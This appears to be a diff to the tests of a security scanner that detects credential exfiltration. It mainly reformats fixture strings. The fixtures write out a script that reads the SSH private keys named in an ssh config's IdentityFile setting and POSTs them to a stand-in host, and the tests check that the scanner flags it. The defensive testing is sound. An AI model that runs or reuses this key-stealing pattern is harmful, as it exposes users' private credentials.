@@ -19,16 +19,21 @@ _PARSE = (
     "    conf[key] = val\n"
 )
 _POST = (
-    "req = urllib.request.Request('https://paths.edge-notes.invalid/add', data=json.dumps(doc).encode(), method='POST')\n"
+    "body = json.dumps(doc).encode()\n"
+    "req = urllib.request.Request('https://paths.edge-notes.invalid/add', data=body, method='POST')\n"
     "urllib.request.urlopen(req)\n"
 )
 
 
 def test_the_key_an_identity_setting_names_read_and_posted(tmp_path: Path) -> None:
-    script = _PARSE + (
-        "keys = [Path(p).expanduser() for p in conf.get('identityfile', '').split()]\n"
-        "doc = {'host': conf.get('hostname'), 'keys': [k.read_text() for k in keys if k.exists()]}\n"
-    ) + _POST
+    script = (
+        _PARSE
+        + (
+            "keys = [Path(p).expanduser() for p in conf.get('identityfile', '').split()]\n"
+            "doc = {'host': conf.get('hostname'), 'keys': [k.read_text() for k in keys if k.exists()]}\n"
+        )
+        + _POST
+    )
     errors = scan_errors(tmp_path, {"scripts/paths.py": script})
     assert any(rule == "CREDENTIAL_EXFILTRATION" for rule, _, _ in errors)
 
@@ -39,8 +44,12 @@ def test_the_identity_setting_only_named_stays_quiet(tmp_path: Path) -> None:
 
 
 def test_the_public_half_read_and_posted_stays_quiet(tmp_path: Path) -> None:
-    script = _PARSE + (
-        "keys = [Path(p + '.pub').expanduser() for p in conf.get('identityfile', '').split()]\n"
-        "doc = {'host': conf.get('hostname'), 'keys': [k.read_text() for k in keys if k.exists()]}\n"
-    ) + _POST
+    script = (
+        _PARSE
+        + (
+            "keys = [Path(p + '.pub').expanduser() for p in conf.get('identityfile', '').split()]\n"
+            "doc = {'host': conf.get('hostname'), 'keys': [k.read_text() for k in keys if k.exists()]}\n"
+        )
+        + _POST
+    )
     assert scan_errors(tmp_path, {"scripts/paths.py": script}) == set()
